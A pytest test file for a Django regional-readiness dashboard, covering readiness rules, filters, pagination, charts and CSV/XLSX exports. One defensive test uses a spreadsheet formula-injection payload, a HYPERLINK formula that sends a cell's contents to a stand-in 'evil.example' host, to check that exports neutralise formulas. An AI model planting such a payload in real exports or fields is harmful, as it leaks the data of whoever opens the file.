import csv
import datetime
import io
import re
from html import unescape

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from core.spreadsheets import safe_cell
from dashboard.help import help_needed
from dashboard.queries import dashboard_rows
from dashboard.readiness import Readiness, readiness_of
from monitoring.models import PlanMilestone, PlanStage, RouteStep, Signal, Status, StepStatus
from regions.models import Region
from tests.conftest import FOREIGN_REGION, OWN_REGION
from tests.factories import ProgressUpdateFactory, RouteStepFactory, add_synthetic_regions

TODAY = datetime.date(2026, 11, 23)
HTMX_RESULTS = {"HX-Request": "true", "HX-Target": "dashboard-results"}
DASH = "\N{EN DASH}"  # as the page writes ranges


@pytest.mark.parametrize(
    ("reached", "expected", "planned_any", "late", "status", "result"),
    [
        (6, 6, True, 5, "risico", Readiness.READY),  # in execution wins over everything
        (None, None, False, 0, None, Readiness.UNKNOWN),
        (2, 4, True, 0, "op_koers", Readiness.CRITICAL),  # two stages behind
        (4, 4, True, 0, "risico", Readiness.CRITICAL),
        (4, 4, True, 3, "op_koers", Readiness.CRITICAL),  # exactly three late steps
        (3, 4, True, 0, "op_koers", Readiness.BEHIND),  # one stage behind
        (4, 4, True, 2, "op_koers", Readiness.BEHIND),
        (4, 4, True, 0, "aandacht", Readiness.BEHIND),
        (4, 4, True, 0, "op_koers", Readiness.ON_SCHEDULE),
        (5, 4, True, 0, None, Readiness.ON_SCHEDULE),  # ahead of plan, no update yet
        (None, 0, True, 0, None, Readiness.BEHIND),  # first stage planned, nothing reached
    ],
)
def test_readiness_rule(reached, expected, planned_any, late, status, result):
    assert (
        readiness_of(
            reached=reached,
            expected=expected,
            planned_any=planned_any,
            late_steps=late,
            status=status,
        )
        == result
    )


def _plan(region, reached_upto: int, planned_passed_upto: int):
    for index, stage in enumerate(PlanStage):
        PlanMilestone.objects.create(
            region=region,
            stage=stage,
            planned_date=TODAY - datetime.timedelta(days=10)
            if index <= planned_passed_upto
            else TODAY + datetime.timedelta(days=20),
            reached_date=TODAY - datetime.timedelta(days=30) if index <= reached_upto else None,
        )


@pytest.mark.django_db
def test_rows_compute_stage_late_steps_signals_and_readiness(personas):
    region = Region.objects.get(code=OWN_REGION)
    _plan(region, reached_upto=3, planned_passed_upto=4)
    RouteStepFactory(region=region, planned_date=TODAY - datetime.timedelta(days=1))
    RouteStepFactory(
        region=region,
        planned_date=TODAY - datetime.timedelta(days=9),
        status=StepStatus.DONE,
        actual_date=TODAY,
    )
    Signal.objects.create(
        region=region, title="s", description="d", addressed_to="vng", raised_on=TODAY
    )
    ProgressUpdateFactory(region=region, status=Status.ON_TRACK)
    rows = {row.region.code: row for row in dashboard_rows(today=TODAY)}
    row = rows[OWN_REGION]
    # personas.own_step is planned 2026-10-01 and still planned: late too
    assert (row.reached, row.expected, row.late_steps, row.open_signals) == (3, 4, 2, 1)
    assert row.stage_label == "Koersbepaling"
    assert row.readiness == Readiness.BEHIND
    assert rows[FOREIGN_REGION].readiness == Readiness.UNKNOWN
    assert len(rows) == 35


@pytest.mark.django_db
def test_help_needed_ranks_by_risk_with_links_to_evidence(personas):
    risky = Region.objects.get(code=OWN_REGION)
    _plan(risky, reached_upto=1, planned_passed_upto=3)
    ProgressUpdateFactory(region=risky, status=Status.RISK)
    calm = Region.objects.get(code=FOREIGN_REGION)
    _plan(calm, reached_upto=3, planned_passed_upto=3)
    ProgressUpdateFactory(region=calm, status=Status.ON_TRACK)
    cases = help_needed(dashboard_rows(today=TODAY), TODAY, limit=40)
    assert cases[0].row.region.code == OWN_REGION
    reasons = {reason.text: reason.url for reason in cases[0].reasons}
    assert reasons["Laatste voortgangsupdate: risico"].endswith(f"/regios/{OWN_REGION}/#progress")
    assert reasons["2 fasen achter op planning"].endswith("#section-fasen")
    assert reasons["1 processtap te laat"].endswith("#section-processtappen")


@pytest.mark.django_db
def test_filters_and_sorting_live_in_the_url(client, personas):
    _plan(Region.objects.get(code=OWN_REGION), reached_upto=6, planned_passed_upto=6)
    client.force_login(personas.pm)
    url = reverse("dashboard:index")
    html = client.get(url, {"gereedheid": "gereed"}, headers=HTMX_RESULTS).content.decode()
    assert "<html" not in html  # only the results fragment
    assert "1 regio getoond." in html and "Groningen" in html
    html = client.get(url, {"adviseur": personas.bob.pk}).content.decode()
    assert "1 regio getoond." in html and "Drenthe" in html
    html = client.get(url, {"provincie": "PV22"}, headers=HTMX_RESULTS).content.decode()
    assert "Drenthe" in html and "Zeeland" not in html
    ordered = client.get(url, {"sorteer": "naam", "volgorde": "af"}, headers=HTMX_RESULTS)
    names = [n for n in ("Zuidoost-Brabant", "Achterhoek") if n in ordered.content.decode()]
    body = ordered.content.decode()
    assert body.index("Zuidoost-Brabant") < body.index("Achterhoek") and len(names) == 2
    assert 'aria-sort="descending"' in body


@pytest.mark.django_db
def test_exports_follow_the_filters(client, personas):
    client.force_login(personas.alice)
    response = client.get(reverse("dashboard:export_csv"), {"adviseur": personas.alice.pk})
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:3] == ["Code", "Regio", "Regioadviseur"]
    assert sorted(r[0] for r in rows[1:]) == ["AM01", "AM02"]
    response = client.get(reverse("dashboard:export_xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 36
    assert sheet["B1"].value == "Regio"


@pytest.mark.django_db
def test_exports_never_hand_a_spreadsheet_a_formula(client, personas):
    """A text that starts like a formula (here an adviser's name) is exported as text, with a
    leading apostrophe, in the CSV and the XLSX alike; numbers stay numbers."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Klik")'
    User.objects.filter(pk=personas.alice.pk).update(first_name=hostile, last_name="")
    client.force_login(personas.pm)
    text = client.get(reverse("dashboard:export_csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    advisers = {row[2] for row in rows[1:]}
    assert "'" + hostile in advisers
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    sheet = load_workbook(io.BytesIO(client.get(reverse("dashboard:export_xlsx")).content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {c.value for c in cells if c.column == 3} >= {"'" + hostile}
    assert not any(c.data_type == "f" for c in cells)
    assert all(isinstance(c.value, int) for c in cells if c.column == 7)  # late steps


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Groningen", "Groningen"),
        ("a=b", "a=b"),
        (-5, -5),
        ("", ""),
    ],
)
def test_a_text_a_spreadsheet_would_evaluate_is_made_text(value, safe):
    assert safe_cell(value) == safe


@pytest.mark.django_db
def test_query_count_does_not_depend_on_the_number_of_regions(
    client, personas, django_assert_num_queries
):
    client.force_login(personas.pm)
    url = reverse("dashboard:index")
    # 2: the database state (core/pagecache.py); 1: the frozen quarters to compare with
    # (dashboard/comparison.py).
    with django_assert_num_queries(19) as at_35:
        assert client.get(url).status_code == 200
    template = Region.objects.get(code=OWN_REGION)
    synthetic = add_synthetic_regions(315, template)
    RouteStep.objects.bulk_create(
        RouteStep(region=r, order=1, title="stap", planned_date=TODAY) for r in synthetic
    )
    assert Region.objects.count() == 350
    with django_assert_num_queries(len(at_35.captured_queries)):
        response = client.get(url)
    assert "Synthetische regio 314" in response.content.decode()


@pytest.mark.django_db
def test_a_larger_programme_pages_the_table_and_exports_every_region(client, personas):
    template = Region.objects.get(code=OWN_REGION)
    add_synthetic_regions(65, template)
    client.force_login(personas.pm)
    url = reverse("dashboard:index")
    sort = {"sorteer": "naam", "volgorde": "op"}
    row_header = re.compile(r'<th scope="row"')

    def region_rows(html) -> list[str]:
        """The rows of the regions table (programme management's page has a second table)."""
        return row_header.findall(html.split('id="dashboard-results"')[1].split("</table>")[0])

    first = client.get(url, sort).content.decode()
    assert "Gereedheid van de 100 regio's" in first
    assert f"Regio's 1{DASH}50 van 100 getoond." in first and len(region_rows(first)) == 50
    assert 'aria-current="page">1<' in first and 'rel="next"' in first
    second = client.get(url, {**sort, "pagina": 2}, headers=HTMX_RESULTS).content.decode()
    assert f"Regio's 51{DASH}100 van 100 getoond." in second and len(region_rows(second)) == 50
    assert (
        "Synthetische regio 064" in second
        and "Synthetische regio 064" not in first.split("<tbody")[1]
    )
    assert 'rel="prev"' in second and 'rel="next"' not in second
    # Sorting starts again at page 1; a page past the end or not a number is shown sensibly.
    assert "pagina=" not in re.search(r'href="\?([^"]*sorteer=fase[^"]*)"', second).group(1)
    assert f"Regio's 51{DASH}100" in client.get(url, {**sort, "pagina": 99}).content.decode()
    assert f"Regio's 1{DASH}50" in client.get(url, {**sort, "pagina": "x"}).content.decode()
    export = client.get(reverse("dashboard:export_csv"), {**sort, "pagina": 2})
    assert len(export.content.decode("utf-8-sig").strip().splitlines()) == 101
    # Every row on one page, to print the whole table; and back to pages.
    assert "pagina=alle" in first and "Alle regio's tonen" in first
    everything = client.get(url, {**sort, "pagina": "alle"}).content.decode()
    assert "100 regio's getoond." in everything and len(region_rows(everything)) == 100
    assert 'rel="next"' not in everything and "In pagina's tonen" in everything


@pytest.mark.django_db
def test_hours_per_expertise_chart_sums_spent_hours(client, personas):
    from dashboard.charts import hours_chart

    deployment = personas.spec.deployments.get()
    deployment.hours_entries.create(day=datetime.date(2026, 11, 2), hours=8)
    deployment.hours_entries.create(day=datetime.date(2026, 11, 9), hours=4)
    bars = {bar.label: bar.value for bar in hours_chart("uren").bars}
    assert bars["Governance"] == 12 and bars["Financiën"] == 0


@pytest.mark.django_db
def test_activity_chart_counts_meetings_and_pilots_per_quarter(personas):
    from dashboard.charts import activity_chart
    from monitoring.models import Pilot
    from tests.factories import MeetingFactory

    region = Region.objects.get(code=OWN_REGION)
    for day in ("2026-01-05", "2026-03-31", "2026-04-01", "2024-12-31"):
        MeetingFactory(region=region, date=datetime.date.fromisoformat(day))
    Pilot.objects.create(
        region=region, kind="pilot", title="p", goal="g", start_date=datetime.date(2026, 2, 1)
    )
    chart = activity_chart("activiteit", ("Bijeenkomsten", "Pilots"), TODAY)
    totals = {column.label: column.total for column in chart.columns}
    assert (totals["2026 Q1"], totals["2026 Q2"], totals["2025 Q4"]) == (3, 1, 0)
    assert "2024 Q4" not in totals  # before the programme's first quarter: not drawn
    q1 = next(c for c in chart.columns if c.label == "2026 Q1")
    assert [(s.label, s.value) for s in q1.segments] == [("Bijeenkomsten", 2), ("Pilots", 1)]


@pytest.mark.django_db
def test_help_needed_lists_the_top_regions_with_the_same_reasons_at_any_limit(personas):
    risky = Region.objects.get(code=OWN_REGION)
    _plan(risky, reached_upto=1, planned_passed_upto=3)
    ProgressUpdateFactory(region=risky, status=Status.RISK)
    rows = dashboard_rows(today=TODAY)
    every = help_needed(rows, TODAY, limit=len(rows))
    top = help_needed(rows, TODAY, limit=3)
    assert [(c.row.region.code, c.score, c.reasons) for c in top] == [
        (c.row.region.code, c.score, c.reasons) for c in every[:3]
    ]
    assert top[0].row.region.code == OWN_REGION and top[0].score == 3 + 2 * 2 + 1 + 2
    scores = [c.score for c in every]
    assert scores == sorted(scores, reverse=True) and all(scores)


@pytest.mark.django_db
def test_the_filters_choose_the_regions_of_the_tiles_and_the_help_list(client, personas):
    risky = Region.objects.get(code=OWN_REGION)  # alice's Groningen
    _plan(risky, reached_upto=1, planned_passed_upto=3)
    ProgressUpdateFactory(region=risky, status=Status.RISK)
    client.force_login(personas.pm)
    url = reverse("dashboard:index")

    def tiles(html):
        section = html.split('id="dashboard-tiles"')[1].split("</section>")[0]
        return {
            label: int(value)
            for value, label in re.findall(r"<strong>(\d+)</strong>([^<]+)</li>", section)
        }

    def help_list(html):
        return html.split('id="dashboard-help"')[1].split("</section>")[0]

    def get(params, **kwargs):
        return unescape(client.get(url, params, **kwargs).content.decode())

    everything = get({})
    assert 'Gereedheid <span class="rm-selection">· alle 35 regio\'s' in everything
    assert sum(tiles(everything).values()) == 35 and tiles(everything)["Kritiek"] == 1
    assert "Groningen" in help_list(everything)

    bobs = get({"adviseur": personas.bob.pk})
    assert "selectie Bob Bakker: 1 van 35 regio's" in bobs
    assert sum(tiles(bobs).values()) == 1 and tiles(bobs)["Kritiek"] == 0
    assert "Groningen" not in help_list(bobs) and "Drenthe" in help_list(bobs)

    # Filtering in place (htmx) brings the tiles and the help list along, out of band.
    fragment = get({"adviseur": personas.alice.pk, "gereedheid": "kritiek"}, headers=HTMX_RESULTS)
    assert fragment.strip().startswith('<div id="dashboard-results">')
    assert 'id="dashboard-tiles" aria-labelledby="tiles-heading" hx-swap-oob="true"' in fragment
    assert 'id="dashboard-help" aria-labelledby="help-heading" hx-swap-oob="true"' in fragment
    assert "selectie Alice Adviseur, Kritiek: 1 van 35 regio's" in fragment
    assert tiles(fragment) == {
        "Kritiek": 1,
        "Achter": 0,
        "Niet gepland": 0,
        "Op schema": 0,
        "In uitvoering": 0,
    }
    assert "Groningen" in help_list(fragment) and "Friesland" not in help_list(fragment)
